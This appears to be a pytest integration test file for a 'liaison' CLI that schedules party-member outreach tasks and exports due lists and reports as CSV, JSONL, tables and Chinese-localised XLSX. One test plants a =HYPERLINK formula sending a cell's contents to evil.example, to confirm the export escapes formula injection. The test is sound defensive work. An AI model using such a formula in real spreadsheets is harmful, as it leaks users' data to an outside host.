"""The scheduler's commands as a person runs them: due in every format, why, policy."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from rich.cells import cell_len
from sqlalchemy import Engine

from tests.cli import liaison
from tests.integration.scheduler.ledger import build_ledger

AS_OF = date(2026, 11, 22)


@pytest.fixture
def run(engine: Engine, liaison_env: dict[str, str]):  # type: ignore[no-untyped-def]
    build_ledger(engine, seed=21, members=40, as_of=AS_OF)

    def invoke(*args: str) -> tuple[int, str, str]:
        result = liaison(*args)
        return result.exit_code, result.stdout, result.stderr

    return invoke


def test_due_prints_the_same_tasks_as_jsonl_csv_table_and_xlsx(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    code, out, _ = run("due", "--as-of", "2026-11-22", "--format", "jsonl")
    assert code == 0
    listed = [json.loads(line) for line in out.splitlines()]
    assert listed
    code, out, _ = run("due", "--as-of", "2026-11-22", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [(r["member_id"], r["rule"], r["window_start"]) for r in rows] == [
        (t["member_id"], t["rule"], t["window_start"]) for t in listed
    ]
    code, out, _ = run("due", "--as-of", "2026-11-22", "--format", "table", "--lang", "en")
    assert out.splitlines()[0].split()[:3] == ["liaison", "member", "task"]
    assert out.splitlines()[-1] == f"{len(listed)} open task(s)"
    assert len(out.splitlines()) == len(listed) + 2
    target = tmp_path / "due.xlsx"
    code, _, err = run(
        "due", "--as-of", "2026-11-22", "--format", "xlsx", "--out", str(target), "--lang", "en"
    )
    assert code == 0 and f"{len(listed)} open task(s)" in err
    sheet = load_workbook(target, read_only=True)["due"]
    values = list(sheet.iter_rows(values_only=True))
    assert len(values) == len(listed) + 1
    assert [(r[2], r[-1]) for r in values[1:]] == [(t["member_id"], t["rule"]) for t in listed]


def test_due_as_a_chinese_table_puts_names_beside_ids_and_aligns_by_display_width(
    run, engine: Engine
) -> None:  # type: ignore[no-untyped-def]
    from sqlalchemy import update

    from shared.models import Liaison

    with engine.begin() as conn:
        conn.execute(update(Liaison).where(Liaison.liaison_id == "L01").values(name="王建国"))
    code, out, _ = run("due", "--as-of", "2026-11-22", "--liaison", "L01", "--lang", "zh-CN")
    assert code == 0, out
    lines = out.splitlines()
    assert lines[0].split() == [
        "联络员", "党员", "事项", "开始日期", "截止日期", "逾期天数", "完成", "组织"
    ]  # fmt: skip
    assert lines[-1] == f"共 {len(lines) - 2} 项待办"
    rows = lines[1:-1]
    assert rows and all(r.startswith("王建国 L01") for r in rows)
    assert any("每月联系" in r for r in rows) and "monthly_contact" not in out
    assert all(re.search(r"党员\d+ M\d{4}", r) for r in rows)
    assert all(re.search(r"(新仓|小池|城西|城东)\S+ TH-", r) for r in rows)
    # Every row's date column starts in the same terminal cell, whatever CJK came before.
    starts = {cell_len(r[: r.index("2026-")]) for r in rows}
    assert len(starts) == 1


def test_due_as_xlsx_opens_with_typed_dates_a_frozen_header_names_and_chinese_headers(
    run, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    target = tmp_path / "due.xlsx"
    code, _, err = run(
        "due", "--as-of", "2026-11-22", "--format", "xlsx", "--out", str(target),
        "--lang", "zh-CN",
    )  # fmt: skip
    assert code == 0, err
    assert "项待办已写入" in err
    sheet = load_workbook(target)["due"]
    header = [c.value for c in sheet[1]]
    assert header[:8] == [
        "联络员编号", "联络员", "党员编号", "姓名", "事项", "开始日期", "截止日期", "逾期天数"
    ]  # fmt: skip
    assert sheet.freeze_panes == "A2"
    first = [c for c in sheet[2]]
    assert first[3].value.startswith("党员")
    assert first[4].value in {
        "每月联系",
        "季度走访",
        "年度实地走访",
        "频繁流动联系",
        "高龄走访",
        "节点走访",
        "活动证审核",
        "学习资料发放",
        "台账核实",
    }
    dates = [row[5] for row in sheet.iter_rows(min_row=2) if row[5].value is not None]
    assert dates and all(c.is_date and c.number_format == "yyyy-mm-dd" for c in dates)
    assert isinstance(sheet.cell(2, 8).value, int)
    widths = {k: d.width for k, d in sheet.column_dimensions.items()}
    assert widths["B"] >= 8 and widths["L"] >= 12  # liaison name, organization name


def test_due_for_an_unknown_liaison_is_a_usage_error_not_an_empty_listing(run) -> None:  # type: ignore[no-untyped-def]
    code, out, err = run("due", "--as-of", "2026-11-22", "--liaison", "NOPE")
    assert code == 2
    assert "no liaison with id 'NOPE'" in err and "open task" not in out


TASK_RULES = (
    "monthly_contact",
    "quarterly_visit",
    "annual_site_visit",
    "frequent_mover_contact",
    "elderly_visits",
    "key_date_visit",
    "certificate_review",
    "materials_delivery",
    "ledger_verification",
)


@pytest.mark.parametrize(
    ("lang", "opening", "one_rule"),
    [
        ("zh-CN", "没有名为 'NOPE' 的事项", "monthly_contact（每月联系）"),
        ("en", "no rule named 'NOPE'", "monthly_contact (monthly contact)"),
    ],
)
def test_due_for_an_unknown_rule_is_a_usage_error_naming_every_rule_on_one_line(  # type: ignore[no-untyped-def]
    run, monkeypatch: pytest.MonkeyPatch, lang: str, opening: str, one_rule: str
) -> None:
    monkeypatch.setenv("COLUMNS", "400")  # Click's usage error on one line of its box
    code, out, err = run("due", "--as-of", "2026-11-22", "--rule", "NOPE", "--lang", lang)
    assert code == 2 and out == ""
    [line] = [line for line in err.splitlines() if "NOPE" in line]
    assert opening in line and one_rule in line
    assert all(rule in line for rule in TASK_RULES)
    assert "quiet_hours" not in line  # messaging policy, not a rule `due` lists


def test_csv_and_jsonl_keep_the_contract_codes_whatever_the_language(run) -> None:  # type: ignore[no-untyped-def]
    code_zh, zh, _ = run("due", "--as-of", "2026-11-22", "--format", "csv", "--lang", "zh-CN")
    code_en, en, _ = run("due", "--as-of", "2026-11-22", "--format", "csv", "--lang", "en")
    assert code_zh == code_en == 0
    assert zh == en and zh.startswith("member_id,rule,window_start")
    code, zh, _ = run("due", "--as-of", "2026-11-22", "--format", "jsonl", "--lang", "zh-CN")
    assert code == 0
    assert '"rule": "monthly_contact"' in zh or '"rule": "quarterly_visit"' in zh


def test_due_for_an_unknown_organization_says_so_without_a_traceback(
    run, liaison_env: dict[str, str]
) -> None:  # type: ignore[no-untyped-def]
    import os
    import subprocess
    import sys

    liaison = Path(sys.executable).with_name("liaison")
    done = subprocess.run(
        [str(liaison), "due", "--org", "NOPE", "--as-of", "2026-11-22"],
        capture_output=True,
        text=True,
        env={**os.environ, **liaison_env, "COLUMNS": "200"},
        check=False,
    )
    assert done.returncode == 2  # a usage error, as for any bad argument
    assert "no organization with code 'NOPE'" in done.stderr
    assert "Traceback" not in done.stderr


def test_a_malformed_as_of_day_is_refused_with_the_accepted_spellings(run) -> None:  # type: ignore[no-untyped-def]
    code, _, err = run("due", "--as-of", "22/11/2026")
    assert code == 2 and "2026-03-01" in err


def test_why_explains_every_rule_with_its_policy_source(run) -> None:  # type: ignore[no-untyped-def]
    code, out, _ = run("why", "M0001", "--as-of", "2026-11-22")
    assert code == 0
    assert out.startswith("member M0001")
    for rule in ("monthly_contact", "quarterly_visit", "certificate_review", "ledger_verification"):
        assert f"\n{rule}: " in out
    assert "policy: enabled=true (default)" in out


def test_policy_set_overrides_a_subtree_and_policy_show_names_the_source(run) -> None:  # type: ignore[no-untyped-def]
    code, out, _ = run(
        "policy",
        "set",
        "--org",
        "TH-XC",
        "monthly_contact.required=2",
        'quarterly_visit.kinds=["visit","meeting"]',
    )
    assert code == 0, out
    code, out, _ = run("policy", "show", "--org", "TH-XC-01")
    assert "monthly_contact.required = 2  [TH-XC]" in out
    assert 'quarterly_visit.kinds = ["visit", "meeting"]  [TH-XC]' in out
    assert 'monthly_contact.period = "month"  [default]' in out
    code, out, _ = run("policy", "show", "--org", "TH-JH-01")
    assert "monthly_contact.required = 1  [default]" in out


def test_policy_set_refuses_an_unknown_parameter(run) -> None:  # type: ignore[no-untyped-def]
    result = liaison("policy", "set", "--org", "TH", "monthly_contact.colour=1")
    assert result.exit_code != 0
    assert "has no parameter 'colour'" in str(result.exception)


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&C2,"click")'


def test_a_formula_in_an_organization_name_comes_out_of_the_report_as_text(
    run, engine: Engine, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    from sqlalchemy import select, update

    from shared.models import Organization

    with engine.begin() as conn:
        code = conn.execute(select(Organization.code).order_by(Organization.code)).scalars().first()
        conn.execute(update(Organization).where(Organization.code == code).values(name=HYPERLINK))
    status, out, _ = run(
        "report", "--period", "2026-Q4", "--as-of", "2026-11-22", "--format", "csv"
    )
    assert status == 0
    names = [row[1] for row in csv.reader(io.StringIO(out))]
    assert f"'{HYPERLINK}" in names and HYPERLINK not in names
    target = tmp_path / "report.xlsx"
    status, _, _ = run(
        "report", "--period", "2026-Q4", "--as-of", "2026-11-22", "--format", "xlsx",
        "--out", str(target),
    )  # fmt: skip
    assert status == 0
    cells = [row[1] for row in load_workbook(target)["report"].iter_rows()]
    [cell] = [c for c in cells if c.value == HYPERLINK]
    assert cell.data_type == "s"


@pytest.mark.parametrize("lang", ["zh-CN", "en"])
def test_the_report_fits_100_columns_and_names_the_over_loaded_liaisons_and_the_unassigned(
    run, engine: Engine, lang: str
) -> None:  # type: ignore[no-untyped-def]
    from sqlalchemy import update

    from shared.models import Liaison

    with engine.begin() as conn:
        conn.execute(update(Liaison).values(name="欧阳" + Liaison.liaison_id))
    args = ("report", "--period", "2026-Q4", "--as-of", "2026-11-22", "--max-load", "2")
    code, out, err = run(*args, "--lang", lang)
    assert code == 0, err
    lines = out.splitlines()
    assert max(cell_len(line) for line in lines) <= 100
    code, raw, _ = run(*args, "--format", "csv")
    rows = {r["org"]: r for r in csv.DictReader(io.StringIO(raw))}
    over, unassigned = int(rows["TH"]["liaisons_over_load"]), int(rows["TH"]["unassigned"])
    assert over > 0 and unassigned > 0  # the seeded ledger has both
    listed = [line for line in lines if re.match(r"  欧阳L\d\d L\d\d  ", line)]
    assert len(listed) == over
    assert sum(1 for line in lines if re.match(r"  党员\d+ M\d{4}  ", line)) == unassigned
    if lang == "zh-CN":
        assert f"超负荷联络员（联系党员超过 2 名）：{over} 名" in lines
        assert f"未配联络员的党员：{unassigned} 名" in lines
        assert any(line.startswith("太湖县委 TH ") for line in lines)
    else:
        assert f"liaisons over the load of 2 members: {over}" in lines
        assert f"members without a liaison: {unassigned}" in lines


def test_the_report_workbook_has_the_figures_and_the_two_lists_with_chinese_headers(
    run, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    target = tmp_path / "report.xlsx"
    code, _, err = run(
        "report", "--period", "2026-Q4", "--as-of", "2026-11-22", "--max-load", "2",
        "--format", "xlsx", "--out", str(target),
    )  # fmt: skip
    assert code == 0, err
    book = load_workbook(target)
    assert book.sheetnames == ["report", "over_loaded", "unassigned"]
    assert [c.value for c in book["report"][1]][:3] == ["组织编码", "组织名称", "党员数"]
    assert all(book[name].freeze_panes == "A2" for name in book.sheetnames)
    loaded = list(book["over_loaded"].iter_rows(values_only=True))
    assert loaded[0] == ("联络员编号", "联络员", "组织编码", "联系党员数")
    assert len(loaded) > 1 and all(row[3] > 2 for row in loaded[1:])
    alone = list(book["unassigned"].iter_rows(values_only=True))
    assert alone[0] == ("党员编号", "姓名", "流出地党组织") and len(alone) > 1
